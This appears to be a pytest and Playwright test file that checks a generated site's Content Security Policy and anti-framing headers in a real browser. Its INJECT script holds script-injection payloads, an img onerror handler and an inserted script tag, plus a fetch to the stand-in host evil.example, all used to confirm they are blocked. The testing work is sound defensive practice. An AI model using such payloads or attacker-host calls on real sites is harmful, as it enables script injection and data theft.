"""What the secure headers of a generated site make of a page in a real browser."""

import pytest
from playwright.sync_api import Browser

pytestmark = pytest.mark.slow

INJECT = """async () => {
    const said = [];
    document.addEventListener("securitypolicyviolation", event => said.push(event.effectiveDirective));
    document.body.insertAdjacentHTML("beforeend", "<img src='/nothing' onerror='window.stolen = 1'>");
    const script = document.createElement("script");
    script.textContent = "window.stolen = 1";
    document.body.append(script);
    await fetch("https://evil.example/").catch(() => 0);
    await new Promise(done => setTimeout(done, 200));
    return [window.stolen ?? null, said.sort()];
}"""


def test_a_script_smuggled_into_a_page_does_not_run(browser: Browser, site: str) -> None:
    """Neither as an element nor as an attribute, and nothing is sent elsewhere."""
    page = browser.new_page()
    page.goto(site)

    stolen, refused = page.evaluate(INJECT)

    assert stolen is None
    assert set(refused) >= {"script-src-elem", "script-src-attr", "connect-src"}
    page.close()


def test_no_other_page_can_frame_the_site(browser: Browser, site: str) -> None:
    """The frame stays empty, so nobody can be made to click in it unseen."""
    page = browser.new_page()
    page.set_content(f"<iframe src='{site}'></iframe>")
    page.wait_for_timeout(500)

    assert all("Welcome" not in frame.content() for frame in page.frames)
    page.close()
